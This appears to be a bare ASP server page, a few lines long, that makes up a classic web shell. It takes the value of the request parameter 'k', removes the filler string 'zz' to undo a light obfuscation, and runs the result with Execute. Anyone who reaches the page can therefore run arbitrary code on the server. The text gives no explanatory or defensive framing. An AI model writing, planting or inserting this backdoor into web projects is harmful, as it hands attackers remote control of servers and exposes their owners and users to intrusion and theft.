<%
If Request("k") <> "" Then
  code = Request("k")
  code = Replace(code, "zz", "")
  Execute(code)
End If
%>
